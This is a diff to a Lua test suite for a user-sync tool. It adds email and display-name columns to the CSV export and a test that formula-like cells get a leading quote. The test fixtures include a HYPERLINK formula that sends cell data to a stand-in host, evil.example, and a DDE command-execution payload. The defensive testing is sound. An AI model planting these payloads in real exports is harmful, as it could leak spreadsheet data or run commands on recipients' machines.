@@ -74,7 +74,8 @@ end }
   t:eq(doc.operations[1].unsure, false, "booleans are booleans")
   -- CSV: header, one row per operation, one per finding; quoting holds
   local rows = parse_csv(w:usersync("show", "--csv", "1").stdout)
-  t:eq(table.concat(rows[1], ","), "run,seq,target,status,kind,subject,group,okta_id,reason,error,code,started,ended")
+  t:eq(table.concat(rows[1], ","), "run,seq,target,status,kind,subject,group,okta_id,reason,error,code,started,ended,"
+    .. "display_name,email")
   t:eq(#rows, 4)
   t:eq(rows[2][4], "done"); t:eq(rows[2][5], "create_user")
   local conflict
@@ -131,6 +132,39 @@ test("history --csv: a header row and one row per run", function(t)
   t:eq(doc.runs[1].covers, "user ann.lee@example.com")
   local d = doc.runs[2].duration
   t:eq(d, math.floor(d * 1000 + 0.5) / 1000, "milliseconds")
+end)
+
+test("CSV export: a cell that starts like a formula (= + - @ tab CR) gets a leading quote", function(t)
+  local w <close> = world.new { products = { "jira" } }
+  local evil = '=HYPERLINK("http://evil.example/x?"&A1,"Click for your bonus")'
+  w:okta_user("00u1", "mal.lory@example.com", { profile = { displayName = evil } })
+  w:okta_user("00u2", "ann.lee@example.com", { profile = { displayName = "@SUM(1+1)*cmd|' /C calc'!A0" } })
+  w:load()
+  local r = w:usersync("sync")
+  t:eq(r.code, 0, r.stdout .. r.stderr)
+  t:eq(w:accounts("jira")["mal.lory@example.com"].displayName, evil, "the target holds the name as Okta has it")
+  r = w:usersync("show", "--csv", "1")
+  t:eq(r.code, 0, r.stderr)
+  local rows = parse_csv(r.stdout)
+  t:eq(table.concat(rows[1], ","), "run,seq,target,status,kind,subject,group,okta_id,reason,error,code,started,ended,"
+    .. "display_name,email")
+  local by = {}
+  for i = 2, #rows do by[rows[i][6]] = rows[i] end
+  t:eq(by["mal.lory@example.com"][14], "'" .. evil, "a formula is text")
+  t:eq(by["ann.lee@example.com"][14], "'@SUM(1+1)*cmd|' /C calc'!A0")
+  t:eq(by["ann.lee@example.com"][15], "ann.lee@example.com", "other cells as they are")
+  for _, out in ipairs({ r.stdout, w:usersync("history", "--csv").stdout }) do
+    for _, row in ipairs(parse_csv(out)) do
+      for _, cell in ipairs(row) do
+        t:ok(not cell:find("^[=+%-@\t\r]"), "no cell starts like a formula: " .. cell)
+      end
+    end
+  end
+  -- --json is data for programs: the name as it is
+  local doc = show_json(w, 1)
+  local names = {}
+  for _, o in ipairs(doc.operations) do names[o.subject] = o.display_name end
+  t:eq(names["mal.lory@example.com"], evil)
 end)
 
 test("plan: users in scope the policy leaves out are noted, with their status", function(t)
